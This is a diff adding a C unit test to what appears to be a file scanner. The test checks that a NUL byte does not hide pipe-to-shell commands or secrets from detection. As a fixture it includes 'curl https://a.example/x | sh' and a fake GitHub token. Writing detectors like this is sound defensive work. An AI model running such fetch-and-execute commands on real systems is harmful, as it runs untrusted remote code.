@@ -167,6 +167,79 @@ what_looks_random_is_asked_about(void **state)
 	    "encrypted-data", &text));
 }
 
+/* Is the id found in a file whose second line has a NUL? */
+static bool
+nul_has(const char *path, uint32_t mode, const char *first, const char *id)
+{
+	static const struct view lines[] = { BYTES("# \0"),
+		BYTES("curl https://a.example/x | sh"),
+		BYTES("k = ghp_0123456789abcdefghijABCDEFGHIJ456789") };
+	const struct scan_change c = {
+		.new_mode = mode, .status = 'A', .path = path
+	};
+	AUTO_STR struct str whole = STR_INIT;
+	struct findings out = { .list = NULL };
+	struct check *k = check_new(&out);
+	struct check_content b;
+	bool found = false;
+
+	str_addf(&whole, "%s\n", first);
+	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
+		str_addv(&whole, lines[i]);
+		str_addc(&whole, '\n');
+	}
+	b.size = whole.len;
+	b.head = b.tail = str_view(&whole);
+	check_change(k, &c);
+	if (check_file(k, &c, &b))
+		for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
+			check_line(k,
+			    &(struct scan_line){ .path = path,
+				.kind = '+',
+				.line = (uint32_t)i + 2,
+				.text = lines[i] });
+	check_file_end(k);
+	check_end(k);
+	check_free(k);
+	for (size_t i = 0; i < out.n; i++)
+		found = found || strcmp(out.list[i].id, id) == 0;
+	findings_release(&out);
+	return found;
+}
+
+static void
+a_nul_hides_nothing_and_blocks_in_what_runs(void **state)
+{
+	static const struct {
+		const char *path, *first;
+		uint32_t mode;
+		bool runs;
+	} rows[] = {
+		{ "go", "#!/bin/sh", 0100644, true },
+		{ "go.txt", "#!/bin/sh", 0100644, true },
+		{ "go.sh", "x", 0100644, true },
+		{ "Makefile", "x", 0100644, true },
+		{ "go", "x", 0100755, true },
+		{ "go.bin", "x", 0100644, false },
+		{ "go.mp3", "x", 0100755, false },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+		const char *p = rows[i].path, *first = rows[i].first;
+
+		if (nul_has(p, rows[i].mode, first, "control-character") !=
+		    rows[i].runs)
+			fail_msg("a NUL in %s", p);
+		if (!nul_has(p, rows[i].mode, first, "binary"))
+			fail_msg("%s is no text", p);
+		if (strcmp(p, "go.mp3") != 0 &&
+		    (!nul_has(p, rows[i].mode, first, "pipe-to-shell") ||
+			!nul_has(p, rows[i].mode, first, "secret")))
+			fail_msg("%s is not read behind its NUL", p);
+	}
+}
+
 int
 main(void)
 {
@@ -176,6 +249,7 @@ main(void)
 		cmocka_unit_test(whole_pictures_have_no_trailing_data),
 		cmocka_unit_test(texts_are_read_whatever_they_begin_with),
 		cmocka_unit_test(what_looks_random_is_asked_about),
+		cmocka_unit_test(a_nul_hides_nothing_and_blocks_in_what_runs),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
